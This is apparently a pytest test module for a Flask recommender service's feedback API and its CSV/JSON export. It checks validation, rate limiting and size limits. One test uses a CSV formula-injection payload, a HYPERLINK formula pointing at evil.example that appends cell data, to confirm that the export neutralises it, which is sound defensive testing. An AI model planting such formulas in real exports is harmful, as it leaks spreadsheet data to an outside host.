"""Feedback: POST /api/v1/feedback stores a verdict; ``recommender feedback export`` shows it.

Every test runs on SQLite and on PostgreSQL (the app's ``DATABASE_URL``).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.datastructures import MultiDict

from db_fixtures import ENGINES, PostgresServer
from recommender.cli import cli
from recommender.core.config import Settings
from recommender.model import artifacts
from recommender.recommend import feedback
from recommender.webapp.config import DEFAULTS
from service_fixtures import AppFactory, build_app

GOOD = {"body": "Rother", "partner": "Wealden District Council", "service": "legal",
        "verdict": "interested", "comment": "worth a call"}  # fmt: skip


def _env(app: Flask) -> dict[str, str]:
    settings = app.extensions["recommender"].settings
    return {"RECOMMENDER_DATA_DIR": str(settings.data), "RECOMMENDER_DATABASE_URL": settings.db_url}


@pytest.fixture
def new_app(make_app: AppFactory, database_url: str) -> AppFactory:
    """Make an app over an empty database of this test's engine."""
    return lambda **config: make_app(DATABASE_URL=database_url, **config)


@pytest.fixture(scope="module", params=ENGINES)
def app(
    request: pytest.FixtureRequest,
    trained_settings: Settings,
    service_models: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Flask]:
    """One app per engine for the tests that only add rows (this module's own ``app``)."""
    root = tmp_path_factory.mktemp("feedback-app")
    url = f"sqlite:///{root / 'feedback.sqlite'}"
    if request.param == "postgresql":
        server: PostgresServer = request.getfixturevalue("postgres_server")
        url = server.new_database()
    app = build_app(root, trained_settings, service_models, DATABASE_URL=url)
    yield app
    app.extensions["recommender"].engine.dispose()


def test_round_trip_post_then_export(new_app: AppFactory, tmp_path: Path) -> None:
    app = new_app()
    response = app.test_client().post("/api/v1/feedback", json=GOOD)
    assert response.status_code == 201
    stored = response.json
    assert stored["body_code"] == "E07000064" and stored["partner_code"] == "E07000065"
    assert stored["verdict"] == "interested" and stored["comment"] == "worth a call"
    assert stored["model_version"] == app.extensions["recommender"].models.version
    assert stored["id"] >= 1 and stored["created_at"].endswith("+00:00")

    runner = CliRunner()
    shown = runner.invoke(cli, ["feedback", "export"], env=_env(app))
    assert shown.exit_code == 0, shown.output
    rows = list(csv.DictReader(io.StringIO(shown.output)))
    assert [(r["id"], r["body_code"], r["partner_code"], r["verdict"]) for r in rows] == [
        (str(stored["id"]), "E07000064", "E07000065", "interested")
    ]
    out = tmp_path / "feedback.json"
    written = runner.invoke(cli, ["feedback", "export", "--format", "json", "--out", str(out)],
                            env=_env(app))  # fmt: skip
    assert written.exit_code == 0, written.output
    assert json.loads(out.read_text())["feedback"] == [stored]


def test_model_version_given_is_kept(client: FlaskClient, app: Flask) -> None:
    older = artifacts.versions(app.extensions["recommender"].settings)[-1]  # saved, not serving
    assert older != app.extensions["recommender"].models.version
    response = client.post("/api/v1/feedback", json=GOOD | {"model_version": older})
    assert response.status_code == 201 and response.json["model_version"] == older


def test_an_unknown_model_version_is_refused(client: FlaskClient, app: Flask) -> None:
    serving = app.extensions["recommender"].models.version
    response = client.post("/api/v1/feedback", json=GOOD | {"model_version": serving + "9"})
    assert response.status_code == 400 and response.json["field"] == "model_version"
    assert serving in response.json["suggestions"]


@pytest.mark.parametrize(
    ("change", "status", "field"),
    [
        ({"verdict": "meh"}, 400, "verdict"),
        ({"verdict": None}, 400, "verdict"),
        ({"body": "Atlantis"}, 404, "body"),
        ({"partner": "Rother"}, 400, "partner"),
        ({"partner": ""}, 400, "partner"),
        ({"service": "lgal"}, 400, "service"),
        ({"comment": "x" * 2001}, 400, "comment"),
        ({"comment": 5}, 400, "comment"),
        ({"colour": "blue"}, 400, "colour"),
        ({"model_version": "v" * 10_000}, 400, "model_version"),
        ({"model_version": "older"}, 400, "model_version"),
        ({"body": "Rother" * 100}, 400, "body"),
        ({"partner": "x" * 201}, 400, "partner"),
        ({"service": "legal" + " " * 100}, 400, "service"),
        ({"comment": "a\x00b"}, 400, "comment"),
        ({"comment": "a\ud800b"}, 400, "comment"),
        ({"partner": "Wealden\x1b"}, 400, "partner"),
        ({"comment": "a\x7fb"}, 400, "comment"),  # DEL, and a C1 control below: not text
        ({"partner": "Wealden\x85"}, 400, "partner"),
    ],
)
def test_bad_feedback_is_refused_and_not_stored(
    client: FlaskClient, app: Flask, change: dict[str, object], status: int, field: str
) -> None:
    before = len(feedback.load(app.extensions["recommender"].engine))
    response = client.post("/api/v1/feedback", json=GOOD | change)
    assert response.status_code == status
    assert response.json["field"] == field
    assert len(feedback.load(app.extensions["recommender"].engine)) == before


def test_verdict_suggests_closest(client: FlaskClient) -> None:
    response = client.post("/api/v1/feedback", json=GOOD | {"verdict": "interestd"})
    assert response.json["suggestions"][0] == "interested"


def test_other_verdict_needs_a_comment(client: FlaskClient) -> None:
    # "Something else (say what below)" with nothing below tells the next training nothing.
    for comment in (None, "", "   ", "\u200b", " \u2060\ufeff "):  # invisible: none
        sent = {k: v for k, v in GOOD.items() if k != "comment"} | {"verdict": "other"}
        sent |= {} if comment is None else {"comment": comment}
        response = client.post("/api/v1/feedback", json=sent)
        assert response.status_code == 400
        assert response.json["field"] == "comment"
        assert "'other' needs a comment" in response.json["detail"]


def test_a_field_named_twice_is_refused(client: FlaskClient, app: Flask) -> None:
    """A JSON body naming a field twice was read as its last value, a form's as its first:
    which was meant is not the service's to pick."""
    engine = app.extensions["recommender"].engine
    before = len(feedback.load(engine))
    sent = json.dumps(GOOD)[:-1] + ', "verdict": "not_relevant"}'
    response = client.post("/api/v1/feedback", data=sent, content_type="application/json")
    assert response.status_code == 400 and response.json["field"] == "verdict"
    assert response.json["detail"] == "the request body names 'verdict' more than once"
    form = [("partner", "E07000062"), ("partner", "E07000065"), ("service", "legal"),
            ("verdict", "interested")]  # fmt: skip
    page = client.post("/bodies/E07000064/feedback", data=MultiDict(form))
    assert page.status_code == 400 and "given more than once" in page.text
    assert len(feedback.load(engine)) == before


def test_training_signals_count_verdicts_per_pair(new_app: AppFactory) -> None:
    app = new_app()
    post = app.test_client().post
    for verdict in ("interested", "not_relevant", "already_sharing"):
        assert post("/api/v1/feedback", json=GOOD | {"verdict": verdict}).status_code == 201
    other = GOOD | {"partner": "Hastings", "verdict": "other", "comment": "we merged last year"}
    assert post("/api/v1/feedback", json=other).status_code == 201
    engine = app.extensions["recommender"].engine
    signals = feedback.training_signals(engine).set_index(["body_code", "partner_code"])
    wealden = signals.loc[("E07000064", "E07000065")]
    assert (wealden["interested"], wealden["not_relevant"], wealden["already_sharing"]) == (1, 1, 1)
    assert wealden["latest"] == "already_sharing"
    assert signals.loc[("E07000064", "E07000062"), "other"] == 1
    missing = feedback.missing_arrangements(engine)
    assert list(missing["partner_code"]) == ["E07000065"]


def test_export_of_nothing_has_a_header(new_app: AppFactory) -> None:
    app = new_app()
    engine = app.extensions["recommender"].engine
    assert feedback.export(engine, "csv").splitlines() == [",".join(feedback.COLUMNS)]
    assert json.loads(feedback.export(engine, "json")) == {"feedback": []}
    assert feedback.training_signals(engine).empty


@pytest.mark.parametrize(
    "body",
    [
        '{"body": "Rother", "comment": "\\ud800", "partner": "Wealden", "service": "legal", '
        '"verdict": "interested"}',
        '{"body": "Rother", "partner": "Wealden", "service": "legal", "verdict": "interested", '
        '"model_version": "\\udfff"}',
        '{"\\ud800": 1}',
        '{"body": "Rother", "extra": [[["\\u0000"]]]}',
        "[" * 5_000 + "]" * 5_000,  # deeper than the parser goes, within FEEDBACK_MAX_BYTES
        '{"body": ' + "[" * 5_000 + "]" * 5_000 + "}",
    ],
)
def test_unstorable_or_deeply_nested_json_is_a_400(client: FlaskClient, body: str) -> None:
    response = client.post("/api/v1/feedback", data=body, content_type="application/json")
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    assert response.json["error"] == "invalid_input"


def test_a_number_of_thousands_of_digits_is_refused_saying_so(client: FlaskClient) -> None:
    body = '{"body": "Rother", "rating": ' + "9" * 5_000 + "}"
    response = client.post("/api/v1/feedback", data=body, content_type="application/json")
    assert response.status_code == 400 and response.json["error"] == "invalid_input"
    detail = response.json["detail"]
    assert detail == "the request body holds a number of 5,000 digits; expected at most 1,000"


def test_a_large_feedback_body_is_a_413_in_the_json_shape(client: FlaskClient) -> None:
    padding = "x" * DEFAULTS["FEEDBACK_MAX_BYTES"]
    response = client.post("/api/v1/feedback", json=GOOD | {"comment": padding})
    assert response.status_code == 413
    assert response.json["status"] == 413 and response.json["error"] == "request_entity_too_large"
    limit = "the 16 KB (16,384 bytes) this accepts"
    assert response.json["detail"] == f"the request body is over {limit}"
    form = {"partner": "Wealden", "service": "legal", "verdict": "interested", "comment": padding}
    page = client.post("/bodies/E07000064/feedback", data=form)
    assert page.status_code == 413 and "too much to send" in page.get_data(as_text=True)


def test_feedback_is_rate_limited_per_client(make_app: AppFactory) -> None:
    app = make_app(FEEDBACK_PER_MINUTE=DEFAULTS["FEEDBACK_PER_MINUTE"])
    limit = app.extensions["recommender"].feedback_limit
    now = [1000.0]
    limit.clock = lambda: now[0]  # a frozen clock: no timing in the test
    client = app.test_client()
    post = client.post
    burst = int(DEFAULTS["FEEDBACK_BURST"])
    for _ in range(burst):
        assert post("/api/v1/feedback", json=GOOD).status_code == 201
    refused = post("/api/v1/feedback", json=GOOD)
    assert refused.status_code == 429
    assert refused.json["error"] == "rate_limited" and set(refused.json) >= {"detail", "field"}
    assert refused.headers["Retry-After"] == "6"  # 10 a minute: one every 6 s
    form = {"partner": "Wealden", "service": "legal", "verdict": "interested"}
    assert post("/bodies/E07000064/feedback", data=form).status_code == 429  # the same bucket
    other = post("/api/v1/feedback", json=GOOD, environ_base={"REMOTE_ADDR": "192.0.2.7"})
    assert other.status_code == 201  # another client has its own bucket
    now[0] += 6
    assert post("/api/v1/feedback", json=GOOD).status_code == 201
    assert post("/api/v1/feedback", json=GOOD).status_code == 429
    stored = len(feedback.load(app.extensions["recommender"].engine))
    assert stored == burst + 2


def test_the_csv_export_neutralises_formulas(make_app: AppFactory) -> None:
    app = make_app()
    comment = '=HYPERLINK("http://evil.example/?"&A1,"see")'
    response = app.test_client().post("/api/v1/feedback", json=GOOD | {"comment": comment})
    assert response.status_code == 201
    rows = list(csv.DictReader(io.StringIO(feedback.export(app.extensions["recommender"].engine))))
    assert rows[0]["comment"] == "'" + comment
    assert rows[0]["id"] == "1" and rows[0]["body_code"] == "E07000064"
    engine = app.extensions["recommender"].engine
    assert json.loads(feedback.export(engine, "json"))["feedback"][0]["comment"] == comment
